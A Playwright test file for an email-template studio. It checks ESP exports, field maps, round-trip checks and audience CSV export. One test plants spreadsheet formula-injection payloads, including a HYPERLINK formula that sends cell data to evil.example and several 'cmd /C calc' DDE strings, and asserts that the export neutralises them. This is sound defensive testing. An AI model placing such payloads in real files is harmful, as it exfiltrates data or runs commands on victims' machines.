import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import type { EspExportResult } from '../../shared/contract/esp-schemas';
import { ESP_IDS } from '../../shared/esp/esp';
import { apiCall } from './api-call';
import { expect, test } from './fixtures';

/**
 * Issue 10, as judged: every starter exports for every ESP and the round-trip
 * check passes for every persona; an audience CSV with planted formula values
 * opens safely. The export dialog shows the field map, the warnings and the
 * exported source beside the original.
 */

test('export dialog: pick an ESP, see the field map, warnings, round trip and both sources, then export', async ({ page, studio }) => {
  test.setTimeout(120_000);
  await page.setViewportSize({ width: 1024, height: 900 });
  await page.goto(studio.url);
  await page.getByRole('option', { name: /Segment offer/ }).click();
  await page.getByRole('button', { name: 'Export…' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('combobox', { name: 'Export format' }).selectOption({ label: 'Mailchimp' });

  await expect(dialog.getByRole('textbox', { name: 'Mailchimp attribute for first_name' })).toHaveValue('FNAME');
  await expect(dialog.getByRole('status', { name: 'Round-trip check' })).toContainText('Round-trip check passed', { timeout: 60_000 });
  await expect(dialog.getByRole('list', { name: 'Warnings for Mailchimp' })).toBeVisible();
  await expect(dialog.getByLabel('Original source')).toContainText('{{ first_name');
  await expect(dialog.getByLabel('Mailchimp source')).toContainText('*|FNAME|*');
  await studio.shot(page, 'esp-01-export-dialog-mailchimp');

  // A renamed field is saved for the workspace and the source follows it.
  await dialog.getByRole('textbox', { name: 'Mailchimp attribute for first_name' }).fill('GIVEN');
  await dialog.getByRole('button', { name: 'Save field names' }).click();
  await expect(dialog.getByLabel('Mailchimp source')).toContainText('*|GIVEN|*', { timeout: 60_000 });
  await expect(dialog.getByRole('status', { name: 'Round-trip check' })).toContainText('Round-trip check passed', { timeout: 60_000 });
  const map = await apiCall<{ entries: { token: string; attribute: string; saved: boolean }[] }>(page.request, studio.url, 'esp.fieldMap', {
    esp: 'mailchimp',
  });
  expect(map.entries.find((entry) => entry.token === 'first_name')).toMatchObject({ attribute: 'GIVEN', saved: true });

  const out = path.join(studio.dir, 'esp-exports');
  await dialog.getByRole('textbox', { name: 'Export folder' }).fill(out);
  await dialog.getByRole('checkbox', { name: 'Minify the HTML' }).check();
  await dialog.getByRole('button', { name: 'Export' }).click();
  await expect(dialog.getByRole('status').filter({ hasText: 'Exported' })).toBeVisible({ timeout: 60_000 });
  await studio.shot(page, 'esp-02-exported');
  const folder = fs.readdirSync(out).find((name) => !name.startsWith('.')) ?? '';
  const html = fs.readFileSync(path.join(out, folder, 'segment-offer-mailchimp.html'), 'utf8');
  expect(html).toContain('*|GIVEN|*');
  expect(html).not.toContain('{{');
  // Minified: no run of blank lines survives.
  expect(html).not.toMatch(/\n\s*\n/);
});

test('every starter exports for every ESP and reads the same for every persona', async ({ page, studio }) => {
  test.setTimeout(600_000);
  const starters = await apiCall<{ name: string; source: string }[]>(page.request, studio.url, 'templates.starters');
  expect(starters.length).toBeGreaterThan(1);
  const failures: string[] = [];
  for (const starter of starters) {
    for (const esp of ESP_IDS) {
      const result = await apiCall<EspExportResult>(page.request, studio.url, 'esp.export', {
        template: { name: starter.name, source: starter.source },
        esp,
        dir: path.join(studio.dir, 'matrix'),
        folder: `${starter.name.replace(/[^\w-]+/g, '-')}-${esp}`,
      });
      expect(fs.existsSync(result.files[0]?.path ?? '')).toBe(true);
      expect(result.roundTrip.personas.length).toBeGreaterThan(0);
      for (const persona of result.roundTrip.personas.filter((p) => !p.ok)) {
        failures.push(`${starter.name} × ${esp} × ${persona.label}: ${persona.problem ?? JSON.stringify(persona.differences.slice(0, 2))}`);
      }
    }
  }
  expect(failures).toEqual([]);
});

/** What a spreadsheet would run: a cell starting with = + - @ tab or CR that is not a plain number. */
const risky = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell);

test('an audience CSV with planted formula values opens safely (exported from the Segments view)', async ({ page, studio }) => {
  test.setTimeout(300_000);
  // Customers whose fields start with = + - @ (the import trims a leading tab or CR, so those arrive through a derived
  // column: the template below prepends them, and Mailchimp cannot, so the audience carries the value Tailor renders).
  const imported = await apiCall<{ jobId: string }>(page.request, studio.url, 'imports.start', {
    path: path.resolve('test/fixtures/esp-audience/planted-formulas.csv'),
    entity: 'customers',
  });
  await expect
    .poll(async () => (await apiCall<{ status: string }>(page.request, studio.url, 'jobs.get', { jobId: imported.jobId })).status, {
      timeout: 60_000,
    })
    .toBe('succeeded');
  await apiCall(page.request, studio.url, 'templates.create', {
    name: 'Planted prefixes',
    source: `<mjml><mj-body><mj-section><mj-column><mj-text>{{ city | prepend: "\t" }}|{{ loyalty_tier | prepend: "\r" }}</mj-text></mj-column></mj-section></mj-body></mjml>`,
  });

  await page.setViewportSize({ width: 1024, height: 900 });
  await page.goto(studio.url);
  await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Segments' }).click();
  await page
    .getByRole('list', { name: 'Segments' })
    .getByRole('button', { name: /High-value customers/ })
    .click();
  await page.getByRole('button', { name: 'Export audience…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Export audience' });
  await expect(dialog.getByRole('combobox', { name: 'Segment' })).toHaveValue(/\d+/);
  await expect(dialog.getByRole('combobox', { name: 'Segment' }).locator('option:checked')).toHaveText(/High-value customers/);

  for (const esp of ESP_IDS) {
    await dialog.getByRole('combobox', { name: 'ESP' }).selectOption(esp);
    const template = esp === 'mailchimp' ? 'Planted prefixes' : 'None';
    await dialog.getByRole('combobox', { name: 'Template for derived columns' }).selectOption({ label: template });
    // The columns under the ESP's names, and how many rows.
    await expect(dialog.getByRole('status', { name: 'Audience size' })).toContainText('contacts');
    const table = dialog.getByRole('table', { name: /^Columns for / });
    await expect(table).toContainText(
      esp === 'mailchimp' ? 'FNAME' : esp === 'hubspot' ? 'firstname' : esp === 'sfmc' ? 'FirstName' : 'first_name',
    );
    if (esp === 'mailchimp') await expect(table).toContainText('Derived');
    const out = path.join(studio.dir, 'audiences', `high-value-${esp}.csv`);
    await dialog.getByRole('textbox', { name: 'CSV file' }).fill(out);
    await dialog.getByRole('button', { name: /^Export( again)?$/ }).click();
    const result = dialog.getByTestId('audience-result');
    await expect(result).toContainText(`to ${out}`, { timeout: 120_000 });
    const size = Number(
      ((await dialog.getByRole('status', { name: 'Audience size' }).innerText()).match(/[\d,]+/)?.[0] ?? '0').replace(/,/g, ''),
    );
    await expect(result).toContainText(`Wrote ${size.toLocaleString('en-US')} contacts`);
    if (esp === 'braze') await studio.shot(page, 'esp-03-audience-exported');

    const text = fs.readFileSync(out, 'utf8').replace(/^\uFEFF/, '');
    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(rows.length - 1).toBe(size);
    // Nothing a spreadsheet would run, anywhere in the file.
    expect(rows.flat().filter(risky)).toEqual([]);
    // The planted values are still there, as text: the apostrophe is the only change.
    const cells = new Set(rows.flat());
    for (const planted of [
      '=HYPERLINK("http://evil.example/?"&A1;"Click")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=1+1',
      '-Bags',
    ])
      expect(cells.has(`'${planted}`)).toBe(true);
    if (esp === 'mailchimp') {
      expect(cells.has("'\tBern")).toBe(true);
      expect(cells.has("'\rGold")).toBe(true);
    }
    // Normal values read as written (a number stays a number, a name stays a name).
    const planted1 = rows.find((row) => row.includes('planted1@example.com')) ?? [];
    expect(planted1).toEqual(expect.arrayContaining(['P-1', 'Safe', '5000', 'Gold']));
    // Every cell is quoted, so a comma or line break in a value never shifts columns.
    expect(text.split('\r\n')[0]).toMatch(/^"[^"]+"(,"[^"]+")*$/);
  }
  await studio.shot(page, 'esp-04-audience-mailchimp');
});

test('the audience dialog says when there is nothing to export', async ({ page, studio }) => {
  await apiCall(page.request, studio.url, 'segments.save', {
    name: 'Nobody at all',
    rule: { match: 'all', conditions: [{ field: 'email', op: 'equals', value: 'nobody@nowhere.invalid' }] },
  });
  await page.setViewportSize({ width: 1024, height: 800 });
  await page.goto(studio.url);
  await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Segments' }).click();
  await page
    .getByRole('list', { name: 'Segments' })
    .getByRole('button', { name: /Nobody at all/ })
    .click();
  await page.getByRole('button', { name: 'Export audience…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Export audience' });
  await expect(dialog.getByRole('status').filter({ hasText: 'has no members' })).toBeVisible();
  await expect(dialog.getByRole('button', { name: 'Export', exact: true })).toBeDisabled();
  await studio.shot(page, 'esp-05-audience-empty');
});
